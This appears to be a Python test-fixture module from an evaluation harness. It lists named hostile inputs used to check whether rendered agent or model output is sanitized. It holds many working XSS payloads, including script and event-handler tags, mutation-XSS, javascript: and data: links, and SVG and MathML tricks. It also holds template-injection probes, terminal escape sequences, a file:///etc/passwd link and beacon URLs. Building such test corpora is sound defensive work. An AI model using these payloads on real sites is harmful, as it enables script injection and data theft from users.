"""
Texts that an agent, a model, a tool or a golden set may hand over, each made to run a script or to break the page that
shows it. A script that runs calls `pwned(NAME)`, which the watched browser offers.
"""

from __future__ import annotations

from harness.records.messages import Json

ESC, BEL, NUL, CSI = "\x1b", "\x07", "\x00", "\x9b"

MARKUP = {
    "script": "<script>pwned('script')</script>",
    "script-in-case": "<ScRiPt >pwned('script-in-case')</sCrIpT >",
    "script-type": "<script type=module>pwned('script-type')</script>",
    "script-src": "<script src=data:text/javascript,pwned('script-src')></script>",
    "script-split": "<scr<script>ipt>pwned('script-split')</scr</script>ipt>",
    "img-onerror": "<img src=x onerror=pwned('img-onerror')>",
    "img-slashes": "<img/src/onerror=pwned('img-slashes')>",
    "img-quotes": "\"'><img src=x onerror=\"pwned('img-quotes')\">",
    "img-newlines": "<img\nsrc=x\nonerror\n=\npwned('img-newlines')\n>",
    "svg-onload": "<svg onload=pwned('svg-onload')>",
    "svg-script": "<svg><script>pwned('svg-script')</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:pwned('svg-animate') /><text x=20 y=20>hit</text></a></svg>",
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg id=x onload=pwned('svg-use')>#x\"/></svg>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc=\"<script>parent.pwned('svg-foreign')</script>\"></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned(`mathml`)&gt;'>",
    "mutation-noscript": "<noscript><p title=\"</noscript><img src=x onerror=pwned('mutation-noscript')>\">",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned('mutation-form')>",
    "mutation-svg": "<svg></p><style><a id=\"</style><img src=1 onerror=pwned('mutation-svg')>\">",
    "mutation-title": "<svg><title><style><img src=x onerror=pwned('mutation-title')></style></title></svg>",
    "template": "<template><img src=x onerror=pwned('template')></template>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.pwned('iframe-srcdoc')</script>\"></iframe>",
    "iframe-javascript": "<iframe src=javascript:parent.pwned('iframe-javascript')></iframe>",
    "object": "<object data=\"data:text/html,<script>parent.pwned('object')</script>\"></object>",
    "embed": "<embed src=\"data:text/html,<script>parent.pwned('embed')</script>\">",
    "form-action": "<form action=javascript:pwned('form-action')><button autofocus>send</button></form>",
    "formaction": "<button formaction=javascript:pwned('formaction')>send</button>",
    "details-ontoggle": "<details open ontoggle=pwned('details-ontoggle')>open</details>",
    "input-autofocus": "<input autofocus onfocus=pwned('input-autofocus')>",
    "video-source": "<video><source onerror=pwned('video-source')></video>",
    "marquee": "<marquee onstart=pwned('marquee')>run</marquee>",
    "body-onload": "<body onload=pwned('body-onload')>",
    "meta-refresh": "<meta http-equiv=refresh content=\"0;url=javascript:pwned('meta-refresh')\">",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "base": "<base href=http://elsewhere.invalid/>",
    "link-style": "<link rel=stylesheet href=http://elsewhere.invalid/a.css>",
    "style-import": "<style>@import 'http://elsewhere.invalid/b.css'; body {display: none}</style>",
    "style-attribute": '<p style="position: fixed; inset: 0; background: url(http://elsewhere.invalid/c)">over all</p>',
    "img-beacon": "<img src=http://elsewhere.invalid/beacon.png>",
    "clobber": "<img id=location name=cookie><form id=document name=querySelector><input name=parentNode></form>",
    "comment": "<!-- <img src=x onerror=pwned('comment')> -->",
    "comment-open": "<!--><img src=x onerror=pwned('comment-open')>-->",
    "cdata": "<![CDATA[<img src=x onerror=pwned('cdata')>]]>",
    "unclosed": "<a title=\"<b onmouseover='pwned(1)",
    "end-of-script": "</script><script>pwned('end-of-script')</script>",
    "end-of-script-json": "\"}</script><img src=x onerror=pwned('end-of-script-json')>",
    "script-comment": "<!--<script>",
    "end-of-textarea": "</textarea></title></style></pre><img src=x onerror=pwned('end-of-textarea')>",
    "entities": "&lt;img src=x onerror=pwned('entities')&gt;",
    "entities-twice": "&amp;lt;img src=x onerror=pwned('entities-twice')&amp;gt;",
    "utf-7": "+ADw-script+AD4-pwned('utf-7')+ADw-/script+AD4-",
}  # fmt: skip
"""HTML and its tricks."""
BITING = {
    "script", "script-in-case", "script-type", "script-src", "img-onerror", "img-slashes", "svg-onload", "svg-script",
    "iframe-srcdoc", "iframe-javascript", "details-ontoggle", "mutation-noscript", "end-of-script", "comment-open",
}  # fmt: skip
"""Those that run in any browser of today where nobody cleans them."""

LINKS = {
    "link-javascript": "[click](javascript:pwned('link-javascript'))",
    "link-case": "[click](JaVaScRiPt:pwned('link-case'))",
    "link-entities": "[click](&#106;avascript&colon;pwned('link-entities'))",
    "link-tab": "[click](java&#9;script&NewLine;:pwned('link-tab'))",
    "link-control": "[click](&#1;javascript:pwned('link-control'))",
    "link-percent": "[click](javascript%3Apwned('link-percent'))",
    "link-angle": "[click](<javascript:pwned('link-angle')>)",
    "link-vbscript": "[click](vbscript:pwned('link-vbscript'))",
    "link-data": "[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQoJ2xpbmstZGF0YScpPC9zY3JpcHQ+)",
    "link-file": "[click](file:///etc/passwd)",
    "link-reference": "[click][1]\n\n[1]: javascript:pwned('link-reference')",
    "link-title": '[click](http://elsewhere.invalid "onmouseover=pwned(\'link-title\')\\" onclick=\\"pwned(1)")',
    "link-relative": "[click](//elsewhere.invalid/x)",
    "link-fragment": "[click](#\"><img src=x onerror=pwned('link-fragment')>)",
    "link-raw": "<a href=\"javascript:pwned('link-raw')\" target=_blank>click</a>",
    "autolink": "<javascript:pwned('autolink')>",
    "autolink-bare": "javascript:pwned('autolink-bare')",
    "image-javascript": "![see](javascript:pwned('image-javascript'))",
    "image-beacon": "![see](http://elsewhere.invalid/see.png?secret=1)",
    "image-data": "![see](data:image/svg+xml,%3Csvg%20onload=pwned('image-data')%3E)",
    "image-alt": "![\"onerror=\"pwned('image-alt')](x)",
    "fence": "```html\" onclick=\"pwned('fence')\n<img src=x onerror=pwned('fence')>\n```",
    "fence-open": "````\n<script>pwned('fence-open')</script>\n",
    "table": "| a | <b onclick=pwned('table')> |\n|---|---|\n| <img src=x onerror=pwned('table')> | 1 |",
    "footnote": "[^1]\n\n[^1]: <img src=x onerror=pwned('footnote')>",
}
"""Markdown whose links and pictures lead where no reader wants to go."""

EXPRESSIONS = {
    "jinja": "{{ 7 * 7 }}{% for x in range(9) %}{{ x }}{% endfor %}{{ ''.__class__.__mro__ }}",
    "mustache": "${pwned('mustache')} #{pwned(1)} <%= pwned(1) %> {{constructor.constructor('pwned(1)')()}}",
    "backticks": "`${pwned('backticks')}`",
    "format": "%s %(name)s {0} {name!r} {0.__class__}",
    "css-url": "url(javascript:pwned('css-url')) expression(pwned(1)) \\3c img",
    "line-separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
}
"""What a template, a script or a style sheet could take for its own."""

LETTERS = {
    "bidi": "safe \u202egnp.exe\u202c \u2066isolated\u2069 \u200fright\u200e",
    "bidi-open": "\u202e\u2067\u202bnever closed",
    "zero-width": "zero\u200bwidth\u200cjoin\u200ders\ufeff\u2060",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇩🇪 ☎︎ ☎️",
    "combining": "Z" + "\u0301\u0317\u0335\u0348\u0359" * 60,
    "wide": "北京的天气怎么样 서울 東京 ﷽ ｆｕｌｌ",
    "ansi": f"{ESC}[31mred{ESC}[0m {ESC}[2J{ESC}[H gone {CSI}31m",
    "osc": f"{ESC}]0;title{BEL}{ESC}]8;;http://elsewhere.invalid{ESC}\\click{ESC}]8;;{ESC}\\{ESC}]52;c;cHduZWQ={BEL}",
    "nul": f"before{NUL}after<scr{NUL}ipt>pwned('nul')</scr{NUL}ipt>",
    "controls": "".join(map(chr, [*range(1, 32), 127, *range(128, 160)])),
    "replaced": "broken \ufffd\ufffd bytes, \ufdd0 \uffff \U0010ffff",
    "private": "\ue000\U000f0000 \U000e0041\U000e0042",
}
"""Letters that are drawn in odd ways, or not at all."""

SHAPES = {
    "empty": "",
    "blank": " \t\r\n\r\n ",
    "long-line": "word " * 200_000,
    "long-word": "x" * 100_000,
    "many-lines": "line\n" * 20_000,
    "nested-quotes": ">" * 2_000 + " deep",
    "nested-lists": "\n".join("  " * depth + "- item" for depth in range(200)),
    "nested-brackets": "[" * 5_000 + "x" + "](y)" * 5_000,
    "nested-emphasis": "*a **b " * 2_000,
    "many-backticks": "`" * 10_000 + " " + "``` " * 2_000,
    "wide-table": "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n|" + "1|" * 1_000,
    "many-links": "[a](http://elsewhere.invalid/) " * 2_000,
}
"""Sizes and depths that cost time or break a layout."""

NAMES = ("__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "__defineGetter__", "length", "then")
"""Names that mean something to JavaScript already, fit for cases, tools, contracts and keys."""

CORPUS: dict[str, str] = MARKUP | LINKS | EXPRESSIONS | LETTERS | SHAPES
"""All hostile texts that can be written to a file, by name."""

UNWRITABLE = {"half": "half \ud800 a pair", "other-half": "\udfff", "both": "\udc80\ud83d"}
"""Texts with half a character: Python holds them, no file in UTF-8 does."""


def deep(levels: int, text: str) -> Json:
    """Objects and lists in one another, with *text* as key and value."""
    value: Json = text
    for level in range(levels):
        value = [value] if level % 2 else {text or "key": value}
    return value
